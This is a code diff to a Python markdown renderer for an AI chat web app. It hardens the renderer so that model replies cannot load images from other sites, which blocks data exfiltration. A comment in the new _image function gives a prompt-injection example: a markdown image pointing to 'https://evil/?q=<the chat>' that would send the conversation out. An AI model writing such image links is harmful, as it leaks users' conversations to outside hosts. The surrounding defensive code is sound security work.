@@ -3,7 +3,9 @@
 Everything a model writes goes through :func:`render`; nothing else puts model
 text into a page. Raw HTML in the markdown is not interpreted (it shows as text),
 and the result is sanitized by nh3 against an allow-list anyway, so a reply, a
-code block or a link cannot run script. Math (``$...$``, ``$$...$$``, ``\\(...\\)``)
+code block or a link cannot run script. An image from another site is shown as
+a link, so showing a reply never makes a request anywhere but here (the pages'
+Content-Security-Policy says the same to the browser). Math (``$...$``, ``$$...$$``, ``\\(...\\)``)
 becomes MathML, which browsers draw natively. Rendering is cheap enough to
 repeat on the whole accumulated text while a reply streams (see
 ``tests/webapp/chat/test_markdown.py`` for the figures).
@@ -12,6 +14,7 @@ repeat on the whole accumulated text while a reply streams (see
 from __future__ import annotations
 
 import html
+import re
 from functools import lru_cache
 
 import nh3
@@ -51,8 +54,8 @@ ATTRIBUTES: dict[str, set[str]] = {
     "pre": {"class"},
     "span": {"class"},
     "div": {"class"},
-    "th": {"style"},
-    "td": {"style"},
+    "th": {"class"},
+    "td": {"class"},
     "ol": {"start"},
     "li": {"class", "id"},
     "ul": {"class"},
@@ -78,6 +81,57 @@ def _highlight(code: str, lang: str, _attrs: str) -> str:
     return f'<pre class="highlight"><code{label}>{body}</code></pre>\n'
 
 
+# An image a reply may embed: a path on this site, or a raster image in a data: URL.
+DATA_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*={0,2}")
+
+
+def _same_site(src: str) -> bool:
+    """A path on this site (``/...``); never ``//host`` or ``/\\host``, which browsers read as another site."""
+    return (src.startswith("/") and not src.startswith(("//", "/\\"))
+            and not any(c == "\\" or c <= " " for c in src))
+
+
+def _embeddable(src: str) -> bool:
+    return _same_site(src) or DATA_IMAGE.fullmatch(src) is not None
+
+
+def _image(self, tokens, idx, options, env) -> str:
+    # A reply is model output, and a prompt-injected one can write ![](https://evil/?q=<the chat>):
+    # the browser would send the conversation to that site just by showing the image. Images load
+    # only from this site or a data: URL; any other becomes a link the reader can choose to follow
+    # (or, inside a link already, its text).
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    if _embeddable(src):
+        return self.image(tokens, idx, options, env)
+    alt = html.escape(self.renderInlineAsText(token.children or [], options, env) or src)
+    depth = sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx])
+    if depth > 0:
+        return alt
+    title = token.attrGet("title")
+    title_attr = f' title="{html.escape(str(title))}"' if title else ""
+    return f'<a href="{html.escape(src)}"{title_attr}>{alt}</a>'
+
+
+def _cell(self, tokens, idx, options, env) -> str:
+    # A column's alignment as a class: the pages' Content-Security-Policy allows no style attributes.
+    token = tokens[idx]
+    style = str(token.attrGet("style") or "")
+    if style.startswith("text-align:"):
+        token.attrs.pop("style")
+        token.attrSet("class", "align-" + style.removeprefix("text-align:"))
+    return self.renderToken(tokens, idx, options, env)
+
+
+def _keep_attribute(tag: str, attribute: str, value: str) -> str | None:
+    """nh3's last word on each attribute: an image's src only as :func:`_image` allows, data: nowhere else."""
+    if tag == "img" and attribute == "src":
+        return value if _embeddable(value) else None
+    if attribute in ("href", "src") and value.lstrip().lower().startswith("data:"):
+        return None
+    return value
+
+
 def _math(display: str):
     def render(self, tokens, idx, options, env) -> str:
         source = tokens[idx].content
@@ -99,6 +153,9 @@ def _parser() -> MarkdownIt:
           .use(texmath_plugin, delimiters="brackets")
           .use(footnote_plugin)
           .use(tasklists_plugin))
+    md.add_render_rule("image", _image)
+    md.add_render_rule("th_open", _cell)
+    md.add_render_rule("td_open", _cell)
     inline, block = _math("inline"), _math("block")
     for rule in ("math_inline", "math_inline_double", "math_single", "math_inline_bracket"):
         md.add_render_rule(rule, inline)
@@ -110,8 +167,8 @@ def _parser() -> MarkdownIt:
 def sanitize(fragment: str) -> str:
     """Keep only the allow-listed tags, attributes and URL schemes."""
     return nh3.clean(fragment, tags=HTML_TAGS | MATHML_TAGS, attributes=ATTRIBUTES,
-                     url_schemes={"http", "https", "mailto"}, link_rel="noopener noreferrer nofollow",
-                     strip_comments=True)
+                     url_schemes={"http", "https", "mailto", "data"}, link_rel="noopener noreferrer nofollow",
+                     strip_comments=True, attribute_filter=_keep_attribute)
 
 
 def render(text: str) -> str:
